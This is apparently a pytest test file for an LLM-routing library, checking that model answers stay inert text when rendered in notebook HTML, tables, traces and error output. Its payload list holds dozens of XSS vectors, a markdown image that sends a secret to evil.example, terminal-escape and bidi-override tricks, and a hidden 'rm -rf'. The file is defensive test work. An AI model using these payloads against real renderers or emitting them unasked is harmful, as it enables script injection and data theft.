"""Nothing that a model says becomes an element, an attribute, a terminal escape or a flood, on any path to the eye."""

from __future__ import annotations

import dataclasses
from collections import Counter
from collections.abc import Callable, Mapping
from datetime import datetime
from typing import Any

import html5lib  # type: ignore[import-untyped]
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from routelab.answer import Answer
from routelab.core.errors import ServerFailed
from routelab.core.events import (
    Answered,
    Blocked,
    Candidate,
    Compacted,
    Failed,
    Missed,
    Recalled,
    Remembered,
    Retrieved,
    Routed,
    Scored,
    Unanswered,
)
from routelab.core.run import Run
from routelab.core.values import Message, Prompt, Tokens
from routelab.lab.datasets import Dataset
from routelab.present import Table, bundle, escape, note, pre, safe
from routelab.testing import Scripted, fleet

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</pre><script>alert(1)</script><pre>",
    "</td></tr></table><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<select><iframe></select><img src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=//evil.example><input name=key><button>go</button></form>",
    "<button data-commandlinker-command='terminal:create-new' data-commandlinker-args='{}'>ok</button>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a id=MathJax href=x>a</a><a id=MathJax name=Hub>b</a>",
    "<style>*{display:none}</style>",
    "</style><script>alert(1)</script>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<plaintext>",
    "<xmp><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "class=n onclick=alert(1) x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "![x](http://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "<http://evil.example>",
    "$\\href{javascript:alert(1)}{x}$ $$\\class{x}{y}$$",
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]0;title\x07 \x9b31m \x9d8;;x\x9c",
    "\x08\x08\x08rm -rf",
    "over\rwritten",
    "\u202egnp.exe\u202c \u2066isolated\u2069 \u200f \u200e",
    "null\x00byte <scr\x00ipt>",
    "\ud800<script>\udfff",
    "\ufeff<script>",
    "<scr\u2028ipt>\u2029\x85",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ufe64script\ufe65 \uff1cscript\uff1e",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= x %>",
    "<" * 5000,
    "<b>" * 3000 + "</b>" * 3000,
)  # fmt: skip
FORBIDDEN = (
    "\x00\x07\x08\x1b\x9b\x9d\r\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\ufeff\ud800\udfff"
)


def run_of(text: str, *events: Any) -> Run:
    prompt = Prompt(id=text, messages=(Message(role="user", content=text),), task=text)
    return Run(id=text, prompt=prompt, started_at=datetime(2026, 1, 1), arm=text, events=events)


def answered(text: str) -> Answered:
    return Answered(
        model=text, served_model=text + "!", provider=text, text=text, cost_usd=None, tokens=Tokens(input=1, output=2)
    )


def every_event(text: str) -> tuple[Any, ...]:
    """Return a history in which every text field of every event is the payload."""
    message = Message(role="user", content=text)
    return (
        Blocked(guard=text, reason=text),
        Compacted(policy=text, messages=(message,)),
        Retrieved(corpus=text, chunks=(text,), messages=(message,)),
        Missed(cache=text, key=text),
        Recalled(cache=text, key=text, text=text, model=text, source_run=text),
        Routed(strategy=text, order=(text, text), reason=text, task=text, considered=(Candidate(model=text),)),
        Unanswered(model=text, provider=text, error="ServerFailed", message=text, retry=True, text=text),
        answered(text),
        Scored(scorer=text, quality=0.5, model=text, reason=text),
        Remembered(cache=text, key=text),
        Failed(stage=text, error=text, message=text),
    )


def dataset(text: str) -> Dataset:
    prompt = Prompt(id=text, messages=(), task=text, difficulty=1.0, scorer={"kind": text})
    return Dataset(name=text, prompts=(prompt,), card=text)


VIEWS: Mapping[str, Callable[[str], Mapping[str, str]]] = {
    "answer": lambda t: Answer(run_of(t, Routed(strategy=t, order=(t,), reason=t), answered(t)))._repr_mimebundle_(),
    "cached answer": lambda t: Answer(run_of(t, Recalled(cache=t, key=t, text=t, model=t)))._repr_mimebundle_(),
    "blocked": lambda t: Answer(run_of(t, Blocked(guard=t, reason=t)))._repr_mimebundle_(),
    "failed": lambda t: Answer(run_of(t, Failed(stage="call", error="ConfigError", message=t)))._repr_mimebundle_(),
    "failed, named by the model": lambda t: Answer(run_of(t, Failed(stage=t, error=t, message=t)))._repr_mimebundle_(),
    "unanswered": lambda t: Answer(
        run_of(t, Unanswered(model=t, provider=t, error="ServerFailed", message=t, retry=False, text=t))
    )._repr_mimebundle_(),
    "trace": lambda t: bundle(Answer(run_of(t, *every_event(t))).trace()),
    "table": lambda t: bundle(
        Table(head=(t, t), rows=[[t, t], [t, "1"]], numbers=frozenset((1,)), caption=t, notes=[t, t])
    ),
    "lines": lambda t: bundle(t, t),
    "pieces": lambda t: {"text/plain": safe(t), "text/html": note(t) + pre(t) + f'<p title="{escape(t)}">x</p>'},
    "dataset": lambda t: dataset(t)._repr_mimebundle_(),
    "fleet": lambda t: dataclasses.replace(fleet({t: Scripted()}), source=t)._repr_mimebundle_(),
}


def skeleton(html: str) -> Counter[tuple[str, tuple[tuple[str, str], ...]]]:
    """Return the elements with their attributes that a browser would make of it."""
    tree = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)
    return Counter((str(e.tag), tuple(sorted(e.attrib.items()))) for e in tree.iter())


def shown(html: str) -> str:
    """Return the text that a browser would show."""
    tree = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)
    for style in tree.iter("style"):
        style.text = ""
    return "".join(tree.itertext())


def harmless(view: str) -> Counter[tuple[str, tuple[tuple[str, str], ...]]]:
    found = skeleton(VIEWS[view]("word")["text/html"])
    if view == "pieces":
        del found[("p", (("title", "word"),))]
    return found


def checked(view: str, text: str) -> None:
    made = VIEWS[view](text)
    assert set(made) == {"text/plain", "text/html"}
    found = skeleton(made["text/html"])
    del found[("br", ())]  # a table keeps the line breaks of its texts
    if view == "pieces":
        # The one attribute that a caller fills on purpose: it holds the whole text and nothing got out of it.
        assert found.pop(("p", (("title", safe(text)),)), 0) == 1
    assert found == harmless(view)
    for face in made.values():
        assert not set(face) & set(FORBIDDEN)
        face.encode("utf-8")


@pytest.mark.parametrize("view", VIEWS)
def test_a_payload_stays_text_in_every_view(view: str) -> None:
    assert len(PAYLOADS) >= 60
    for payload in PAYLOADS:
        checked(view, payload)


@settings(max_examples=60, deadline=None)
@given(
    view=st.sampled_from(list(VIEWS)),
    text=st.text(alphabet="<>/\"'=&;!-a script\x00\n\ud800\u202e`", min_size=1, max_size=40),
)
def test_so_does_anything_else(view: str, text: str) -> None:
    checked(view, text)


FENCES = (
    "```\n{}\n```",
    "```{}\nx\n```",
    "a\n ```python\n{}",
    "```\n{}\n``` {}\n```\n{}",
    "{}\n```\n```\n{}\n````\n{}",
)


@pytest.mark.parametrize("fence", FENCES)
def test_a_code_block_may_be_set_apart_and_nothing_else_comes_of_it(fence: str) -> None:
    allowed = [*harmless("answer"), ("pre", (("class", "c"),)), ("code", ())]
    for payload in PAYLOADS:
        text = fence.format(payload, payload, payload)
        found = skeleton(VIEWS["answer"](text)["text/html"])
        assert set(found) <= set(allowed)
        assert sum(n for (tag, _), n in found.items() if tag in ("pre", "code")) <= 8


@pytest.mark.parametrize("payload", PAYLOADS[:50])
def test_what_the_model_said_is_shown_as_it_said_it(payload: str) -> None:
    said = shown(VIEWS["answer"](payload)["text/html"])
    assert safe(payload) in said
    assert safe(payload) in VIEWS["answer"](payload)["text/plain"]


@pytest.mark.parametrize("view", VIEWS)
@pytest.mark.parametrize(
    "text",
    ["<&\"'" * 2_500_000, "line\n" * 1_000_000, "```\nx\n```\n" * 100_000],
    ids=["ten megabytes", "a million lines", "a hundred thousand fences"],
)
def test_ten_megabytes_of_answer_are_less_than_one_of_output(view: str, text: str) -> None:
    made = VIEWS[view](text)
    assert sum(len(face.encode("utf-8")) for face in made.values()) < 1_000_000


def test_what_was_cut_is_counted() -> None:
    assert safe("x" * 20_005).endswith("xxx\n… (5 more characters)")
    assert safe("abcdef", 4) == "abcd\n… (2 more characters)"
    assert safe("abcd", 4) == "abcd"


def test_an_error_in_a_notebook_shows_no_escapes_either() -> None:
    lines = ServerFailed("said \x1b[31m<script>\u202e\ud800", hint="\x9b31m")._render_traceback_()
    assert lines == ["ServerFailed: said \ufffd[31m<script>\ufffd\ufffd", "  hint: \ufffd31m"]


def test_the_repr_of_an_answer_can_be_printed_anywhere() -> None:
    answer = Answer(run_of("\x1b[31m\ud800", answered("\x1b[2J\u202e\ud800")))
    assert not set(repr(answer)) & set(FORBIDDEN)
    assert len(repr(Answer(run_of("a", answered("x" * 10_000_000))))) < 100_000
    assert str(answer) == "\x1b[2J\u202e\ud800"  # the value itself is not touched


@given(text=st.text())
def test_safe_text_stays_safe_and_is_what_a_browser_shows(text: str) -> None:
    assert safe(safe(text)) == safe(text)
    assert shown(f"<p>{escape(text)}</p>") == safe(text)
